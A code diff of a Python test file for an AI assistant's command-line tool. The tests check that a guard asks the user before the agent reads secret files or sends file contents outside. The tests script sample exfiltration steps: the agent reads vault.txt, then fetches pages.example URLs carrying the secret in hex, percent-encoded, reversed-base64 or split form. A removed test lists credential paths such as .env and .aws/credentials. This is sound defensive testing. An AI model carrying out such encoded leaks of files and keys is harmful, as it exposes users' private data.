@@ -1,6 +1,5 @@
 """Provenance of values through the command line, with a scripted model and a server process."""
 
-import base64
 import json
 from typing import Any
 
@@ -44,28 +43,6 @@ def called(cli: CommandLine) -> str:
     return file.read_text() if file.exists() else ""
 
 
-def coded(text: str) -> str:
-    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
-
-
-READ = selection("ai.read", path="vault.txt")
-
-
-@pytest.mark.parametrize(
-    "carrying",
-    [SECRET.replace(" ", "%20"), SECRET.encode().hex(), coded(SECRET[::-1])],
-)
-def test_a_request_that_carries_file_content_outside_is_asked_about(
-    office: CommandLine, scripted_openai: ScriptedOpenAI, carrying: str
-):
-    fetch = selection("office.fetch_page", url=f"https://pages.example/{carrying}")
-    done = said(office, scripted_openai, "Read vault.txt and look at pages.example", READ, fetch)
-    assert done.status == ASKED, done.out + done.err
-    assert "it sends words outside that are not yours" in " ".join(done.out.split())
-    assert "private data (from ai.read)" in " ".join(done.out.split())
-    assert called(office) == ""
-
-
 def test_an_address_from_a_mail_is_shown_with_its_passage(office: CommandLine, scripted_openai: ScriptedOpenAI):
     mail = selection("office.send_mail", to="eve@rival.example", body="When can you come?")
     request = "Read my mail, then send a mail to the plumber: When can you come?"
@@ -78,33 +55,13 @@ def test_an_address_from_a_mail_is_shown_with_its_passage(office: CommandLine, s
     assert called(office) == ""
 
 
-def test_an_address_from_a_contact_field_is_not_flagged(office: CommandLine, scripted_openai: ScriptedOpenAI):
-    mail = selection("office.send_mail", to="sarah@office.example", body="Lunch at noon?")
-    find = selection("office.find_contact", name="Sarah")
-    done = said(office, scripted_openai, "Mail Sarah: Lunch at noon?", find, mail, more=("--allow-writes",))
-    assert done.status == ASKED, done.out + done.err
-    assert "Warning:" not in done.out
-    assert "`to` comes from a field of what office.find_contact returned" in " ".join(done.out.split())
-
-
-@pytest.mark.parametrize("path", [".env", "keys/id_ed25519", "mcp.json", ".aws/credentials", "server.pem"])
-def test_a_file_with_secrets_is_read_only_after_approval(
-    office: CommandLine, scripted_openai: ScriptedOpenAI, path: str
+def test_a_request_that_carries_file_content_outside_is_asked_about(
+    office: CommandLine, scripted_openai: ScriptedOpenAI
 ):
-    file = office.folder / path
-    file.parent.mkdir(exist_ok=True)
-    if not file.exists():
-        file.write_text("KEY=hush-hush")
-    done = said(office, scripted_openai, f"Read {path}", selection("ai.read", path=path))
+    read = selection("ai.read", path="vault.txt")
+    fetch = selection("office.fetch_page", url=f"https://pages.example/{SECRET.encode().hex()}")
+    done = said(office, scripted_openai, "Read vault.txt and look at pages.example", read, fetch)
     assert done.status == ASKED, done.out + done.err
-    assert "contains keys or secrets" in " ".join(done.out.split())
-    assert "hush-hush" not in done.out
-
-
-def test_content_in_two_parts_is_also_asked_about(office: CommandLine, scripted_openai: ScriptedOpenAI):
-    whole = coded(SECRET)
-    parts = [whole[:13], whole[13:]]
-    fetches = [selection("office.fetch_page", url=f"https://pages.example/{one}") for one in parts]
-    done = said(office, scripted_openai, "Read vault.txt and look at pages.example", READ, *fetches)
-    assert done.status == ASKED, done.out + done.err
-    assert parts[1] not in called(office)
+    assert "it sends words outside that are not yours" in " ".join(done.out.split())
+    assert "private data (from ai.read)" in " ".join(done.out.split())
+    assert called(office) == ""
